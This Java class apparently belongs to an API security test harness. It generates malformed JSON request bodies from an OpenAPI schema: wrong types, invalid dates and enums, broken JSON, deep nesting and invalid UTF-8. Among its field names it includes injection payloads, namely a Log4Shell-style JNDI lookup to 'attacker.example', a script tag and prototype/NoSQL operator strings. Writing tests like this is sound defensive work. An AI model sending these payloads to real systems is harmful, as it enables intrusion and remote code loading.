package se.rjh.mtp.system.security;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * Malformed bodies for one endpoint, derived from its OpenAPI schema: wrong types, missing and unknown fields,
 * invalid dates and enum values, injection strings, invalid UTF-8, deep nesting and broken JSON. Each is invalid by
 * construction; on an endpoint with a path id the id also exists nowhere.
 */
final class BodyAttacks {

    private static final List<String> BAD_DATES = List.of("2026-02-30", "2026-13-01", "31/12/2026", "tomorrow",
            "0000-00-00", "2026-1-1");
    private static final List<String> UNKNOWN_NAMES = List.of("actor", "zzUnknown", "__proto__", "$where",
            "<script>alert('mtp')</script>", "${jndi:ldap://attacker.example/a}");
    private static final List<byte[]> BAD_UTF8 = List.of(new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xFE, 'a'},
            new byte[] {(byte) 0x80}, new byte[] {(byte) 0xC3, '('}, new byte[] {'a', (byte) 0xE2, (byte) 0x82});
    private static final List<String> BROKEN_JSON = List.of("{\"a\": \"b\"", "{\"a\": 1,}", "{'a': 'b'}",
            "{\"a\": NaN}", "{/* c */}", "{}{}", "", "null", "[]", "\"text\"", "123", "{\"a\" \"b\"}");

    private final ApiCatalog.Endpoint endpoint;
    private final String user;
    private final int round;
    private final List<Attack> out = new ArrayList<>();

    private BodyAttacks(ApiCatalog.Endpoint endpoint, String user, int round) {
        this.endpoint = endpoint;
        this.user = user;
        this.round = round;
    }

    static List<Attack> of(ApiCatalog.Endpoint endpoint, String user, int round) {
        BodyAttacks attacks = new BodyAttacks(endpoint, user, round);
        attacks.generate();
        return attacks.out;
    }

    private void generate() {
        JsonNode schema = endpoint.body();
        boolean createsSomething = endpoint.params("path").isEmpty();
        List<ApiCatalog.Field> leaves = ApiCatalog.leaves(schema);
        for (ApiCatalog.Field field : leaves) {
            for (JsonNode wrong : wrongTypes(field)) {
                add("wrong type", with(field, wrong));
            }
            if (field.isDate()) {
                BAD_DATES.forEach(date -> add("invalid date", with(field, ApiCatalog.NODES.textNode(variant(date)))));
            }
            if (field.isEnum()) {
                String first = field.schema().get("enum").get(0).asText();
                for (String bad : List.of(first.toLowerCase(), "NOT_A_VALUE", Attack.INJECTIONS.get(0), Attack.INJECTIONS.get(3))) {
                    add("invalid enum", with(field, ApiCatalog.NODES.textNode(variant(bad))));
                }
            }
            if (field.isFreeText()) {
                for (String injection : Attack.INJECTIONS) {
                    ObjectNode body = with(field, ApiCatalog.NODES.textNode(variant(injection)));
                    // A creating endpoint would accept the text; the unknown field keeps the request invalid.
                    add("injection", createsSomething ? body.put("injectedInto", field.path()) : body);
                }
                ObjectNode operator = ApiCatalog.NODES.objectNode().put("$ne", variant(""));
                add("injection", with(field, operator));
                for (byte[] bad : BAD_UTF8) {
                    out.add(withBytes(field, bad));
                }
            }
        }
        for (String name : ApiCatalog.required(schema)) {
            add("missing field", ApiCatalog.without(base(), List.of(name)));
        }
        for (String name : UNKNOWN_NAMES) {
            add("extra field", base().put(variant(name), "x"));
        }
        leaves.stream().filter(f -> f.where().size() > 1 && f.where().get(0) instanceof String).findFirst()
                .ifPresent(nested -> add("extra field", ApiCatalog.with(base(),
                        List.of(nested.where().get(0), "actor"), ApiCatalog.NODES.textNode("admin"))));
        String firstName = leaves.isEmpty() ? "x" : (String) leaves.get(0).where().get(0);
        out.add(raw("deep nesting", "[".repeat(5000) + "]".repeat(5000)));
        out.add(raw("deep nesting", "{\"" + firstName + "\": " + "[".repeat(2000) + "]".repeat(2000) + "}"));
        out.add(raw("deep nesting", "{\"a\":".repeat(1500) + "1" + "}".repeat(1500)));
        BROKEN_JSON.forEach(text -> out.add(raw("broken JSON", text)));
    }

    /** Values of a type Jackson will not coerce into the field's type. */
    private static List<JsonNode> wrongTypes(ApiCatalog.Field field) {
        ObjectNode object = ApiCatalog.NODES.objectNode().put("k", 1);
        JsonNode list = ApiCatalog.NODES.arrayNode().add("x").add(1);
        return switch (field.type()) {
            case "object", "array" -> List.of(ApiCatalog.NODES.textNode("text"), ApiCatalog.NODES.numberNode(42));
            case "integer", "number" -> List.of(ApiCatalog.NODES.textNode("many"), object, ApiCatalog.NODES.numberNode(1e40));
            default -> List.of(object, list);
        };
    }

    private ObjectNode base() {
        return (ObjectNode) ApiCatalog.sample(endpoint.body());
    }

    private ObjectNode with(ApiCatalog.Field field, JsonNode value) {
        return ApiCatalog.with(base(), field.where(), value);
    }

    /** The body as JSON with the field's string made of raw invalid UTF-8 bytes. */
    private Attack withBytes(ApiCatalog.Field field, byte[] bad) {
        String[] parts = with(field, ApiCatalog.NODES.textNode("\u0001BAD\u0001")).toString()
                .split(java.util.regex.Pattern.quote("\\u0001BAD\\u0001"), 2);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes(parts[0].getBytes(StandardCharsets.UTF_8));
        bytes.writeBytes(bad);
        bytes.writeBytes(parts[1].getBytes(StandardCharsets.UTF_8));
        return new Attack("invalid UTF-8", endpoint.method(), endpoint.bogusPath(), user, "application/json",
                bytes.toByteArray(), false, Map.of());
    }

    private void add(String kind, ObjectNode body) {
        out.add(Attack.json(kind, endpoint.method(), endpoint.bogusPath(), user, body.toString()));
    }

    private Attack raw(String kind, String text) {
        return Attack.json(kind, endpoint.method(), endpoint.bogusPath(), user, text);
    }

    /** The same bad value, varied by round so that later rounds are not repeats. */
    private String variant(String value) {
        return round == 0 ? value : value + " " + round;
    }
}
